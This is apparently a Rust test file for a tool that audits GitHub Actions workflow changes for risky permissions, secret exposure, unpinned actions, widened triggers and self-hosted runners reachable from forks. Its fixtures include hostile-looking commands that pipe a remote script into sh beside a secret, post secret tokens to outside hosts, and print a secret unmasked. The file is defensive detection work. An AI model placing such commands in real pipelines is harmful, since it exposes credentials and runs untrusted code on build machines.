//! Tokens, secrets, code of others, triggers, guards and runners: each rule, and which one speaks.

use beholden::power::{DefaultToken, Ground, Protection};

use crate::rules_flows::shown::{CI, job, may, public, said_on, steps, table};

fn none() -> String {
    String::new()
}

fn plain() -> String {
    steps("push", "- run: 'true'")
}

fn reads(on: &str) -> String {
    steps(on, "- run: deploy\n  env: {KEY: '${{ secrets.DEPLOY_KEY }}'}")
}

#[test]
fn a_token_that_writes_more_is_told_and_conversations_are_not() {
    let talk = may(&plain(), "issues: write");
    table(&[
        (
            "widened",
            plain(),
            may(&plain(), "contents: write"),
            &[
                "high token-widened ci.yml:2 People who may push can set off the job `build`, whose token now has `contents: write`.",
            ],
        ),
        ("a new job that talks", none(), talk.clone(), &[]),
        (
            "a job that talks now",
            plain(),
            talk,
            &[
                "low token-widened ci.yml:2 People who may push can set off the job `build`, whose token now has `issues: write`.",
            ],
        ),
        ("less", may(&plain(), "contents: write"), plain(), &[]),
        ("reading", plain(), may(&plain(), "contents: read, actions: read"), &[]),
        (
            "login",
            none(),
            may(&plain(), "id-token: write"),
            &[
                "medium oidc-trust-added ci.yml:2 People who may push can set off the job `build`, which can now get identity tokens and log in wherever they are taken; no file says where.",
            ],
        ),
    ]);
}

#[test]
fn a_default_that_writes_is_told_once_for_a_file() {
    let open = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps: [{run: 'true'}]\n  b:\n    runs-on: ubuntu-latest\n    steps: [{run: 'true'}]\n";
    let on = |default| said_on(&Ground { default_token: default, ..public() }, &[], &[(CI, open)]);
    assert_eq!(on(Some(DefaultToken::Read)), Vec::<String>::new());
    assert_eq!(
        on(Some(DefaultToken::Write)),
        [
            "medium write-by-default ci.yml:3 The token of the jobs `a` and `b` may write nearly everything, because the file sets no permissions and the repository's setting allows it; people who may push can set them off."
        ]
    );
    assert_eq!(
        on(None),
        [
            "low write-by-default ci.yml:3 The token of the jobs `a` and `b` may do what the repository's setting says, which is not known, because the file sets no permissions; people who may push can set them off."
        ]
    );
}

#[test]
fn a_secret_that_gained_a_reader_says_who_read_it_before() {
    let first = reads("push").replace("build:", "first:");
    let second = steps("issues", "- run: x\n  env: {KEY: '${{ secrets.DEPLOY_KEY }}'}");
    assert_eq!(
        said_on(&public(), &[(CI, &first)], &[(CI, &first), (".github/workflows/b.yml", &second)]),
        [
            "high secret-gained-reader b.yml:8 Anyone who can open an issue can set off the job `build`, which now reads the secret `DEPLOY_KEY`, read until now only in `ci.yml`."
        ]
    );
    table(&[
        (
            "a name of somebody",
            none(),
            steps("push", "- run: x\n  env: {T: '${{ secrets.AZURE_CLIENT_ID }}'}"),
            &[
                "low secret-gained-reader ci.yml:8 People who may push can set off the job `build`, which now reads the secret `AZURE_CLIENT_ID`.",
            ],
        ),
        (
            "a token of a person",
            none(),
            steps("push", "- run: gh x\n  env: {GH_TOKEN: '${{ secrets.ACME_PAT }}'}"),
            &[
                "medium long-lived-token ci.yml:8 People who may push can set off the job `build`, which now reads the secret `ACME_PAT`, good until somebody revokes it, though the token of a GitHub App lives an hour.",
            ],
        ),
        (
            "keys of a cloud",
            none(),
            steps(
                "push",
                "- run: aws x\n  env: {A: '${{ secrets.AWS_SECRET_ACCESS_KEY }}', B: '${{ secrets.AWS_ACCESS_KEY_ID }}'}",
            ),
            &[
                "medium long-lived-token ci.yml:8 People who may push can set off the job `build`, which now reads the secrets `AWS_SECRET_ACCESS_KEY` and `AWS_ACCESS_KEY_ID`, good until somebody revokes them, though AWS takes the job's own identity token.",
            ],
        ),
    ]);
}

#[test]
fn a_secret_that_is_handed_to_an_action_of_the_repository_stands_where_it_is_handed_over() {
    let action = "inputs: {token: {required: true}}\nruns:\n  using: composite\n  steps:\n    - run: upload\n      shell: bash\n      env: {T: '${{ inputs.token }}'}\n";
    let uses = steps("push", "- uses: ./up\n  with: {token: '${{ secrets.MIRROR_TOKEN }}'}");
    let head = [(CI, uses.as_str()), ("up/action.yml", action)];
    assert_eq!(
        said_on(&public(), &[("up/action.yml", action)], &head),
        [
            "medium secret-gained-reader ci.yml:8 People who may push can set off the job `build`, which now reads the secret `MIRROR_TOKEN`."
        ]
    );
}

#[test]
fn a_command_that_gives_power_is_said_by_what_it_can_do() {
    let fetched =
        "- run: curl -s https://x.invalid/i.sh | sh\n  env: {KEY: '${{ secrets.KEY }}'}\n";
    for (commands, with) in [
        ("- run: gh secret set A", "with the secret `KEY` and a command that can store secrets."),
        (
            "- run: gh secret set A\n- run: gh repo deploy-key add k.pub",
            "with the secret `KEY` and commands that can add deploy keys and store secrets.",
        ),
    ] {
        let said =
            said_on(&public(), &[], &[(CI, &steps("push", &format!("{fetched}{commands}")))]);
        assert!(said.iter().any(|it| it.ends_with(with)), "{said:?}");
    }
}

#[test]
fn what_jobs_read_alike_is_one_sentence_and_a_label_that_tells_nothing_stays_one() {
    let job = "    runs-on: ubuntu-24-4core\n    steps:\n      - run: curl -s https://x.invalid/i.sh | sh\n        env: {KEY: '${{ secrets.DEPLOY_KEY }}'}\n";
    let quiet = job.replace("curl -s https://x.invalid/i.sh | sh", "deploy");
    let head = format!("on: push\npermissions: {{}}\njobs:\n  a:\n{quiet}  b:\n{quiet}  c:\n{job}");
    assert_eq!(
        said_on(&public(), &[], &[(CI, &head)]),
        [
            "high remote-script-beside-secrets ci.yml:17 People who may push can set off the job `c`, where what `https://x.invalid/i.sh` answers runs unchecked, with the secret `DEPLOY_KEY` and a machine labelled `ubuntu-24-4core`.",
            "medium secret-gained-reader ci.yml:8 People who may push can set off the jobs `a` and `b`, which now read the secret `DEPLOY_KEY`.",
        ]
    );
    let own = head.replace("ubuntu-24-4core", "[self-hosted, arm]");
    assert!(
        said_on(&public(), &[], &[(CI, &own)])[0]
            .ends_with("a machine of its own (`arm` and `self-hosted`).")
    );
}

#[test]
fn a_secret_that_was_read_behind_a_guard_is_told_when_it_is_read_without() {
    let name = beholden::domain::Foreign::new("production");
    let ground =
        Ground { environments: [(name, Some([Protection::Reviewers].into()))].into(), ..public() };
    let guarded = reads("push").replace("    steps", "    environment: production\n    steps");
    assert_eq!(
        said_on(&ground, &[(CI, &guarded)], &[(CI, &reads("push"))]),
        [
            "high environment-guard-removed ci.yml:4 People who may push can set off the job `build` without the protection that held it back (it was `production`), with the secret `DEPLOY_KEY`."
        ]
    );
    let other = reads("push").replace("build:", "copy:");
    assert_eq!(
        said_on(&ground, &[(CI, &guarded)], &[(CI, &guarded), (".github/workflows/c.yml", &other)]),
        [
            "high secret-gained-reader c.yml:8 People who may push can set off the job `copy`, which now reads the secret `DEPLOY_KEY`, read until now only in `ci.yml`, there behind the protection of an environment."
        ]
    );
    assert_eq!(said_on(&ground, &[(CI, &reads("push"))], &[(CI, &guarded)]), Vec::<String>::new());
}

#[test]
fn every_secret_at_once_is_told_by_where_it_goes() {
    let call = "on: push\npermissions: {}\njobs:\n  call:\n    uses: octo-org/flows/.github/workflows/x.yml@main\n    secrets: inherit\n";
    table(&[
        (
            "inherit",
            none(),
            call.to_owned(),
            &[
                "high all-secrets-exposed ci.yml:6 People who may push can set off the job `call`, which hands every secret that it can see to the workflow `octo-org/flows/.github/workflows/x.yml` of another repository, held to whatever is newest.",
            ],
        ),
        (
            "computed",
            none(),
            steps("push", "- run: deploy\n  env: {K: '${{ secrets[matrix.name] }}'}"),
            &[
                "high all-secrets-exposed ci.yml:8 People who may push can set off the job `build`, which can now read every secret of the repository, and each one added later.",
            ],
        ),
    ]);
}

#[test]
fn code_of_others_that_is_not_pinned_is_told_with_what_it_gets() {
    let sha = "0123456789012345678901234567890123456789";
    let with = |reference: &str| {
        let step = format!("- uses: octo-org/a@{reference}\n  with: {{t: '${{{{ secrets.T }}}}'}}");
        steps("push", &step)
    };
    let two = "- uses: octo-org/a@v1\n- uses: octo-org/b@main";
    let says = "high third-party-action-receives ci.yml:7 The action `octo-org/a` is held to a tag, which its owner can move, and works with the secret `T` in the job `build`.";
    table(&[
        ("new", none(), with("v1"), &[says]),
        ("let loose", with(sha), with("v1"), &[says]),
        ("pinned", with("v1"), with(sha), &[]),
        (
            "moved",
            with("v1"),
            with("v2"),
            &[
                "info third-party-action-receives ci.yml:7 `octo-org/a` moved from `v1` to `v2`, which its owner can move too, and works with the secret `T`.",
            ],
        ),
        ("moved and pinned", with(sha), with(&sha.replace('0', "f")), &[]),
        ("nothing to get", none(), steps("push", two), &[]),
        (
            "two that write",
            none(),
            may(&steps("push", two), "contents: write"),
            &[
                "medium token-widened ci.yml:2 People who may push can set off the job `build`, whose token now has `contents: write`.",
                "medium third-party-action-receives ci.yml:7 The actions `octo-org/a` and `octo-org/b` are not pinned, at worst to whatever is newest, and all of them work with the token of the job `build`, which writes.",
            ],
        ),
    ]);
}

#[test]
fn more_who_can_start_a_job_are_told_once_for_a_file() {
    table(&[
        (
            "outsiders",
            reads("push"),
            reads("pull_request_target"),
            &[
                "high trigger-widened ci.yml:1 Anyone who can open a pull request can now set off the job `build` by `pull_request_target`, with the secret `DEPLOY_KEY`; before, only people who may push could.",
            ],
        ),
        (
            "writers",
            reads("schedule"),
            reads("[schedule, push]"),
            &[
                "medium trigger-widened ci.yml:1 People who may push can now set off the job `build` by `push`, with the secret `DEPLOY_KEY`; before, only a schedule could.",
            ],
        ),
        (
            "the same people",
            reads("release"),
            reads("[release, workflow_dispatch]"),
            &[
                "low trigger-widened ci.yml:1 `workflow_dispatch` now also sets off the job `build`, with the secret `DEPLOY_KEY`, for people who may push.",
            ],
        ),
        ("fewer", reads("[push, schedule]"), reads("schedule"), &[]),
        ("nothing to gain", plain(), plain().replace("push", "issues"), &[]),
    ]);
}

#[test]
fn a_token_of_which_nothing_is_known_is_something_to_gain() {
    let open = |on: &str| steps(on, "- run: make lint").replace("permissions: {}\n", "");
    let said = |ground: &Ground, on: &str| {
        said_on(ground, &[(CI, &open("pull_request"))], &[(CI, &open(on))])
    };
    let unknown = Ground { default_token: None, ..public() };
    assert_eq!(
        said(&unknown, "pull_request_target"),
        [
            "medium trigger-widened ci.yml:1 Anyone who can open a pull request can now set off the job `build` by `pull_request_target`, with perhaps a token that writes; before, only people who may push could."
        ]
    );
    assert_eq!(said(&public(), "pull_request_target"), Vec::<String>::new(), "it only reads");
    assert_eq!(said(&unknown, "[pull_request, push]"), Vec::<String>::new(), "the same people");
}

#[test]
fn a_fork_that_reaches_a_machine_that_stays_is_told() {
    let on =
        |label: &str| job("pull_request", "steps: [{run: make}]").replace("ubuntu-latest", label);
    table(&[
        (
            "own",
            on("ubuntu-latest"),
            on("self-hosted"),
            &[
                "critical fork-reaches-self-hosted-runner ci.yml:5 Anyone who opens a pull request from a fork, newcomers after a first approval, can run code in the job `build` on a machine of your own (`self-hosted`), which the next job uses too.",
            ],
        ),
        (
            "perhaps own",
            none(),
            on("big-runner"),
            &[
                "medium fork-reaches-self-hosted-runner ci.yml:5 Anyone who opens a pull request from a fork, newcomers after a first approval, can run code in the job `build` on `big-runner`, which may be a machine of your own.",
            ],
        ),
        (
            "lent",
            none(),
            on("depot-ubuntu-24.04-4"),
            &[
                "low fork-reaches-self-hosted-runner ci.yml:5 Anyone who opens a pull request from a fork, newcomers after a first approval, can run code in the job `build` on `depot-ubuntu-24.04-4`, a machine that Depot lends for one job.",
            ],
        ),
        ("no fork", none(), on("self-hosted").replace("pull_request", "push"), &[]),
    ]);
}

#[test]
fn secrets_that_leave_are_told_with_their_way_out() {
    let send = |script: &str| {
        steps(
            "push",
            &format!(
                "- run: {script}\n  env: {{T: '${{{{ secrets.TOKEN }}}}', HOOK: '${{{{ secrets.SLACK_WEBHOOK_URL }}}}'}}"
            ),
        )
    };
    let starts = "People who may push can set off the job `build`,";
    for (what, script, rule, says) in [
        (
            "a host",
            "curl -d $T https://api.acme.invalid/x",
            "high secret-leaves",
            "which sends the secret `TOKEN` to `api.acme.invalid`.",
        ),
        (
            "the log",
            "echo $T | rev",
            "critical secret-leaves",
            "which prints the secret `TOKEN` into the log in a form that nothing masks.",
        ),
        (
            "an address that is a secret",
            "curl -d hi $HOOK",
            "medium secret-gained-reader",
            "which now reads the secrets `SLACK_WEBHOOK_URL` and `TOKEN`.",
        ),
        (
            "another secret to that address",
            "curl -d $T $HOOK",
            "high secret-leaves",
            "which sends the secret `TOKEN` to a host that is computed.",
        ),
    ] {
        let said = said_on(&public(), &[], &[(CI, &send(script))]);
        let expected = format!("{starts} {says}");
        let found = said.iter().any(|line| line.starts_with(rule) && line.ends_with(&expected));
        assert!(found, "{what}: {said:#?}");
    }
}
